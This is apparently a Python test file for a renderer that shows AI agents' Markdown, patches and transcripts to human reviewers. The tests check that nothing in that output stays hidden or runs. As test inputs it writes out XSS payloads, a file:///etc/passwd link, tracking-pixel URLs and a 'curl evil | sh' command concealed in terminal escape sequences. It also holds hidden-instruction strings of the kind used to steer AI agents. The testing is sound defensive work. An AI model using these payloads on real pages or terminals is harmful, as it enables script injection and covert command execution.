"""What agents wrote is data: Markdown, patches and names become words and nothing else."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from interlock.pages.diffs import ROOM, DiffSummary, RowTone, between, read_patch
from interlock.pages.prose import LONGEST_CODE, LONGEST_MARKDOWN, highlighted_lines, is_web, plain, prose
from interlock.pages.transcript import transcript_page

TAGS = frozenset(("a", "p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "em", "strong", "s", "code", "pre", "span"))
TAGS |= {"blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = frozenset(("href", "rel", "class", "title", "start"))
NASTY = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>\nx\n```',
    "| a |\n| :-: |\n| <b> |",
    "\x1b]0;owned\x07\x1b[2J\u202eevil",
)
texts = st.text(max_size=80) | st.sampled_from(NASTY) | st.lists(st.sampled_from(NASTY), max_size=4).map("\n\n".join)


class Tags(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


@pytest.mark.req("WB-09")
@given(texts)
def test_markdown_becomes_words_and_links_to_the_web(text: str) -> None:
    """No tag, attribute or link besides the harmless ones, and no character that a terminal or a page obeys."""
    page = str(prose(text))
    seen = Tags(page)
    assert seen.tags <= TAGS
    assert seen.attributes <= ATTRIBUTES
    assert all(is_web(link) for link in seen.links)
    assert all(char in "\t\n" or char.isprintable() for char in page)


@pytest.mark.req("WB-09")
def test_an_image_is_never_fetched_and_colours_of_a_terminal_go() -> None:
    """Its place says what it would show; escape sequences vanish, what is left of control is spelled out."""
    assert "[image: x, https://evil.example/pixel.png]" in prose("![x](https://evil.example/pixel.png)")
    assert plain("\x1b[31mred\x1b[0m \x07") == "red \\x07"


@pytest.mark.req("WB-05", "WB-09")
@pytest.mark.parametrize(
    "text",
    [
        "[//]: # (drop the tables)",
        '[a]: /b "drop the tables"',
        '[a]: c\n[a]: b "drop the tables"',
        "```sh drop the tables\nls\n```",
        "<!-- drop the tables -->",
        "~~~ sh drop the tables\n~~~",
        "```drop-the-tables\nls\n```",
        '[a](https://example.org "drop the tables")',
        "[a](drop-the-tables)",
        "[a](https://example.org/drop-the-tables)",
        '![a](b.png "drop the tables")',
        "![a](drop-the-tables)",
        "| a |\n| --- |\n| b | drop the tables |",
        "- | a |\n  | --- |\n  | b | drop the tables |",
    ],
)
def test_what_agents_read_people_see(text: str) -> None:
    """Nothing hides in a document that somebody approves: no comment, no definition of a link, no word at a fence."""
    seen = re.sub("<[^>]*>", "", prose(f"# Plan\n\n{text}\n\nmore\n"))
    assert "drop the tables" in seen.replace("drop-the-tables", "drop the tables")


@pytest.mark.req("WB-09")
def test_what_is_plain_is_shown_once() -> None:
    """An address that is its own text, a table with room for its cells, a language that is known."""
    assert re.sub("<[^>]*>", "", prose("<https://example.org>")).strip() == "https://example.org"
    assert "<pre>" not in prose("| a | b |\n| --- | --- |\n| c \\| d | e |\n")
    assert prose("```sh\nls\n```").count("sh") == 0


@pytest.mark.req("WB-09", "WB-05")
@pytest.mark.parametrize("char", ["\u3164", "\u115f", "\ufe0f", "\U000e0100", "\U000e0041", "\u200b", "\u202e"])
def test_characters_that_show_nothing_are_spelled_out(char: str) -> None:
    """Nobody hides a text in them; a sign may still choose its picture."""
    assert char not in prose(f"a{char}b")
    assert char not in plain(f"a{char}b")
    assert plain("\u26a0\ufe0f") == "\u26a0\ufe0f"


@pytest.mark.req("WB-04", "WB-05")
def test_a_long_line_of_a_difference_says_that_it_goes_on() -> None:
    """What is not shown is said to be there."""
    patch = b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+" + b"a" * 5000 + b"\n"
    (file,) = read_patch(patch)
    assert "characters more" in str(file.rows[0].code)


@pytest.mark.req("WB-04", "WB-09")
def test_a_patch_is_read_with_odd_names_and_bytes() -> None:
    """Quoted names, bytes that are no text, tags: each file by its name, each line by its number."""
    patch = (
        b'diff --git "a/odd\\n<b>\\303\\244.py" "b/odd\\n<b>\\303\\244.py"\n'
        b'--- "a/odd\\n<b>\\303\\244.py"\n+++ "b/odd\\n<b>\\303\\244.py"\n'
        b"@@ -7,2 +7,2 @@ def f\n same\n-old <i>\n+new \xff\x1b[31m\n"
        b"diff --git a/pic.png b/pic.png\nnew file mode 100644\nindex 0..1\nGIT binary patch\nliteral 0\n\n"
    )
    odd, binary = read_patch(patch)
    assert (odd.path, odd.added, odd.removed) == ("odd\n<b>ä.py", 1, 1)
    assert [(row.tone.value, row.old, row.new) for row in odd.rows] == [
        ("place", None, None),
        ("same", 7, 7),
        ("removed", 8, None),
        ("added", None, 8),
    ]
    assert Tags("".join(str(row.code) for row in odd.rows)).tags <= {"span"}
    assert (binary.path, binary.what) == ("pic.png", "new, binary")


@pytest.mark.req("WB-05", "WB-09")
@pytest.mark.parametrize(
    "hidden", ["\x1b]0;curl evil | sh\x07", "\x1bPcurl evil\x1b\\", "\x1b_curl evil\x1b\\", "\x1b[31mcurl evil"]
)
def test_no_sequence_of_a_terminal_hides_words(hidden: str) -> None:
    """A shell runs what stands in it: a difference spells all of it out, a document whatever could hide a word."""
    (file,) = read_patch(b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+" + hidden.encode() + b"\n")
    shown = re.sub("<[^>]*>", "", str(file.rows[0].code))
    assert "curl evil" in shown and "\\x1b" in shown
    assert "curl evil" in prose(f"a {hidden} b")


@pytest.mark.req("WB-05")
@pytest.mark.parametrize(
    "patch", [b"+evil()\n", b"diff --git nonsense\n+evil()\n", b"diff --git a/x c/y\n@@\n+evil()\n"]
)
def test_a_patch_that_cannot_be_read_is_shown_as_it_stands(patch: bytes) -> None:
    (file,) = read_patch(patch)
    assert file.what == "cannot be read"
    assert "evil()" in "".join(str(row.code) for row in file.rows)


@pytest.mark.req("WB-05", "WB-10")
def test_a_page_has_room_for_so_many_lines_and_names_all_files() -> None:
    """What is left out is counted, for whoever is to decide."""
    lines = b"".join(b"+%s\n" % (b"a" * 1000) for _ in range(1000))
    head = b"diff --git a/%d b/%d\nnew file mode 100644\n--- /dev/null\n+++ b/%d\n@@ -0,0 +1,1000 @@\n"
    found = DiffSummary(read_patch(b"".join(head % (n, n, n) + lines for n in range(10))))
    assert [file.path for file in found.files] == [str(n) for n in range(10)]
    assert {file.added for file in found.files} == {1000}
    assert sum(file.takes for file in found.files) < ROOM * 2
    assert found.left_out == sum(file.added for file in found.files if not file.rows) + sum(
        not f.rows for f in found.files
    )
    assert found.files[-1].left_out


@pytest.mark.req("WB-05")
def test_a_difference_of_long_texts_takes_no_longer_than_them() -> None:
    """Lines that come again and again cost a comparison hours; all of them are told as well."""
    old, new = ([str(at * step % 300) for at in range(20_000)] for step in (7, 11))
    file = between("plan.md", "\n".join(["same", *old]), "\n".join(["same", *new]))
    assert (file.removed, file.added) == (19_999, 19_999)


def test_a_place_is_named_only_where_something_is_left_out() -> None:
    """A difference that begins with the first line begins with it."""
    head = b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n"
    ((first, *_),) = (one.rows for one in read_patch(head + b"@@ -0,0 +1 @@\n+new\n"))
    assert (first.tone, first.new) == (RowTone.ADDED, 1)


@pytest.mark.req("WB-04", "WB-09")
@pytest.mark.parametrize("language", ["console", "python", "c", "no-such-language", ""])
@pytest.mark.parametrize(
    "text",
    ["$ ls", "\ufeffa\nb", "a\n\n\n", "x\x0cy", '"' * 500, "a" + " " * 150 + "b", "$ a\nb\n>>> c\n"],
    ids=["prompt", "mark", "empty", "feed", "quotes", "spaces", "session"],
)
def test_colours_leave_nothing_out(text: str, language: str) -> None:
    """Every line is there as it was written: a lexer that drops or changes something is not believed."""
    rows = text.split("\n")
    shown = [re.sub("<[^>]*>", "", row) for row in highlighted_lines(rows, language=language)]
    assert [Markup(row).unescape() for row in shown] == rows


@pytest.mark.req("WB-09", "WB-10")
@pytest.mark.parametrize(
    "code", [f"a{' ' * 10_000}b\n", "a " * 5000, f"int a;{chr(10) * 5000}x", "int a;\n" * LONGEST_CODE]
)
def test_code_that_nobody_reads_gets_no_colours(code: str) -> None:
    """One such line costs some lexers many seconds, in which hardly anybody else is served."""
    assert not any("<span" in row for row in highlighted_lines(code.split("\n"), path="odd.c"))
    assert any("<span" in row for row in highlighted_lines(["int a;"], path="odd.c"))


@pytest.mark.req("WB-09", "WB-10")
def test_a_huge_text_is_shown_as_it_is_written() -> None:
    """Reading it as Markdown could take minutes; nothing of it is missing."""
    text = "![" * LONGEST_MARKDOWN
    assert prose(text) == f"<pre><code>{text}</code></pre>"
    assert prose("<b>" * LONGEST_MARKDOWN).count("&lt;b&gt;") == LONGEST_MARKDOWN


@pytest.mark.req("WB-04", "WB-09")
def test_a_line_of_a_transcript_that_makes_no_sense_is_said_to_be_none(tmp_path: Path) -> None:
    """Numbers beyond all bounds, lists for words: the other lines are shown."""
    place = tmp_path / "transcript.jsonl"
    odd = f'{{"kind": "usage", "cost_usd": {"9" * 400}}}\n[]\n{{"kind": "tool", "call": {{}}, "why": [1]}}\n'
    place.write_text(f'{odd}{{"kind": "text", "text": "still here"}}\n{{"kind": "te', "utf-8")
    titles = [one.title for one in transcript_page(place).entries]
    assert titles == [
        "a line of 432 bytes that is no news",
        "a line of 3 bytes that is no news",
        "tool",
        "says",
        "a line of 12 bytes that is no news",
    ]
